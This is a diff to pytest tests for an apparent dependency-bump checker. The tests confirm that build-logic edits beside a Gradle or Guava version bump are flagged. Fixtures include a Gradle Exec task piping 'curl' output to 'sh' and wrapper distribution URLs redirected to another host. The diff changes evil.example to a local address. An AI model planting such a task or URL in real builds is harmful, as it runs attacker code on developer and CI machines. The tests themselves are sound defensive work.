@@ -601,10 +601,10 @@ ingress:
 
 @pytest.mark.parametrize("path, base, head", [
     ("build.gradle.kts", BUILD_KTS, BUILD_KTS.replace(b"guava:32.1.3-jre", b"guava:33.0.0-jre")
-     + b'tasks.register<Exec>("x") { commandLine("sh", "-c", "curl https://evil.example | sh") }\n'),
+     + b'tasks.register<Exec>("x") { commandLine("sh", "-c", "curl https://127.0.0.1:9 | sh") }\n'),
     ("gradle/wrapper/gradle-wrapper.properties",
      b"distributionSha256Sum=aa\ndistributionUrl=https\\://services.gradle.org/distributions/gradle-8.5-bin.zip\n",
-     b"distributionSha256Sum=bb\ndistributionUrl=https\\://evil.example/distributions/gradle-8.6-bin.zip\n"),
+     b"distributionSha256Sum=bb\ndistributionUrl=https\\://127.0.0.1:9/distributions/gradle-8.6-bin.zip\n"),
 ])
 def test_build_logic_beside_a_bump_is_a_problem_not_the_bump(tmp_path: Path, path: str, base: bytes,
                                                             head: bytes) -> None:
@@ -639,7 +639,7 @@ def test_keys_gradles_wrapper_task_adds_ride_with_the_bump(tmp_path: Path, was: 
 
 @pytest.mark.parametrize("now", [
     b"validateDistributionUrl=false\n",  # the check turned off
-    b"networkTimeout=10000\ndistributionUrl=https\\://evil.example/gradle-8.2-bin.zip\n",
+    b"networkTimeout=10000\ndistributionUrl=https\\://127.0.0.1:9/gradle-8.2-bin.zip\n",
     b"networkTimeout=1\\\nvalidateDistributionUrl=true\n",  # a continued line is the previous key's value
 ])
 def test_other_wrapper_edits_beside_the_bump_stay_a_problem(tmp_path: Path, now: bytes) -> None:
